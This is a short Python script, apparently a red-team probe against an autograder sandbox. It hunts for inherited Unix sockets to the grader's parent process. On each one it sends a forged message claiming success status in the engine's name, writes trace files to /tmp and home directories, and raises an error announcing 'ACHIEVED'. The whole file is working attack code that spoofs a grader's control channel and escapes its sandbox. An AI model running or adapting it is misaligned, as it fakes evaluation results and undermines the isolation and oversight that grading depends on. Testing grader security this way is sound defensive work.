"""Looks for an inherited socket to the grader's parent process and asks it in the engine's name for another child, and answers the engine in the parent's.

family: wire
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="wire_control_socket"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

import json
import os
import socket
import stat

for _fd in range(3, 1024):
    try:
        if not stat.S_ISSOCK(os.fstat(_fd).st_mode):
            continue
        _socket = socket.socket(fileno=os.dup(_fd))
        _socket.settimeout(1)
        if _socket.family == socket.AF_UNIX:
            _achieved(f"an inherited socket, descriptor {_fd}, peer {_socket.getpeername()!r}")
            _socket.sendall(json.dumps({"scratch": "/tmp", "status": 0, "pid": os.getpid()}).encode() + b"\n")
    except Exception:
        continue
_report()
